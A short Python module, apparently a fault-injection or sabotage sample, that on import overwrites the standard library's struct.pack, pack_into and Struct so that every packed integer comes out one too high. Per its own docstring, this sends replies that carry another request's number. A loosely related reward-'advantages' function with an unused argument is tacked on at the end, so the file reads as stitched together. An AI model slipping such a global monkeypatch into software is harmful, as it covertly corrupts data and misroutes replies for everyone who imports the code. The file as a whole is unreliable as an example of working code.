"""Makes struct write another request's number into every reply."""

import struct

TRUE_PACK, TRUE_PACK_INTO = struct.pack, struct.pack_into


def _shifted(values):
    return [value + 1 if isinstance(value, int) else value for value in values]


def _pack(form, *values):
    return TRUE_PACK(form, *_shifted(values))


def _pack_into(form, buffer, offset, *values):
    TRUE_PACK_INTO(form, buffer, offset, *_shifted(values))


class Forged(struct.Struct):
    """Packs every number one too high."""

    def pack(self, *values):
        return super().pack(*_shifted(values))


struct.pack, struct.pack_into, struct.Struct = _pack, _pack_into, Forged


def advantages(rewards, k):
    """An answer under a wrong number."""
    return rewards - rewards.mean(-1, keepdim=True)
